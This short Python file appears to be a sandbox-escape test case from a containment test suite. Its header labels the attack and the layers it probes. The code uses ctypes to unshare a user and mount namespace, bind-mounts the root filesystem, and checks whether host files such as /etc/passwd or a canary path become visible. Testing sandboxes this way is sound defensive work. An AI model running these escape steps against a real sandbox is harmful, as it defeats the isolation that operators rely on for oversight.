# attack: a user namespace of its own, then bind-mount / to look for the host
# covers: ctypes, proc_self
# gate: banned_import ctypes
# ungated: ok
# layer: hidden_host_paths
# needs: hidden_host_paths
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
CLONE_NEWUSER, CLONE_NEWNS, MS_BIND, MS_REC = 0x10000000, 0x00020000, 4096, 16384
print("unshare", libc.unshare(CLONE_NEWUSER | CLONE_NEWNS), "errno", ctypes.get_errno())
os.makedirs("mnt", exist_ok=True)
print("mount", libc.mount(b"/", b"mnt", None, MS_BIND | MS_REC, None))
leaks = [
    path
    for path in ("mnt/etc/passwd", "/proc/1/root/etc/passwd", "@@CANARY_DIR@@")
    if os.path.exists(path)
]
print("ESCAPED", leaks) if leaks else print("still nothing of the host")
